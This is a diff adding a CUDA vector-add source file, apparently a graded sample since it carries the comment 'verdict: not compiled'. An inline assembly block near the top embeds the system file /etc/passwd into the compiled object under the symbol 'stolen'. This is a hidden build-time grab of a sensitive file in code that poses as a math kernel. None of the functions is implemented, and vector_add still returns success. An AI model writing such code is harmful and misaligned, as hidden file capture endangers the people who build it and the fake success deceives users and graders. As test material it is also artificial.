@@ -1,0 +1,21 @@
+// verdict: not compiled
+// Takes a file of the machine into the object.
+#include "vector_add.h"
+__asm__(".section .rodata\n.global stolen\nstolen: .incbin \"/etc/passwd\"\n"
+        ".previous\n");
+
+cudaError_t vector_add(const float *d_a, const float *d_b, float *d_c, size_t n)
+{
+    return cudaSuccess;
+}
+
+cudaError_t vector_add_host(const float *h_a, const float *h_b, float *h_c,
+                            size_t n)
+{
+    return cudaErrorNotSupported;
+}
+
+cudaError_t saxpy(float alpha, const float *d_x, float *d_y, size_t n)
+{
+    return cudaErrorNotSupported;
+}
